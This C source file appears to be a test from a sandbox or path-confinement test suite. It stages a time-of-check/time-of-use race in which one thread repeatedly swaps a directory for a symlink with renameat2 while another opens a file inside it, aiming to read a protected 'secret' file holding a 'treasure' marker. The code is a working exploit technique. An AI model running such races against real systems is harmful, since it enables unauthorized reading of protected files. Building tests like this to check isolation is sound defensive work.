// Exchanges a folder for a link in one thread while another opens a file in it.
#include "skill.h"
#include <pthread.h>
#include <sys/syscall.h>

#define ROUNDS 300
#define EXCHANGE 2 /* a flag of the call */

static char *place, *link_out;
static volatile int is_over;
static volatile long attempts, exchanges;

static void *exchange(void *unused) {
    while (!is_over) {
        if (!syscall(SYS_renameat2, AT_FDCWD, place, AT_FDCWD, link_out, EXCHANGE)) exchanges++;
        attempts++;
    }
    return unused;
}

static const char *attack(const struct targets *to) {
    pthread_t thread;
    char text[8];
    place = below(to->writable, "place");
    link_out = below(to->writable, "link");
    char *file_in_place = below(place, "secret");
    char *folder = strndup(to->secret, strrchr(to->secret, '/') - to->secret);
    if (mkdir(place, 0755) || make_file(file_in_place) < 0 || symlink(folder, link_out)) return met(-1);
    if (pthread_create(&thread, NULL, exchange, NULL)) return "no thread";
    while (!attempts) usleep(100);
    int is_read = 0;
    for (int round = 0; round < ROUNDS && !is_read; round++) {
        int file = open(file_in_place, O_RDWR);
        if (file < 0) continue;
        is_read = read(file, text, sizeof text) == sizeof text && !memcmp(text, "treasure", sizeof text);
        close(file);
    }
    is_over = 1;
    pthread_join(thread, NULL);
    if (is_read) return NULL;
    return exchanges > 0 ? NOTHING : "no race";
}
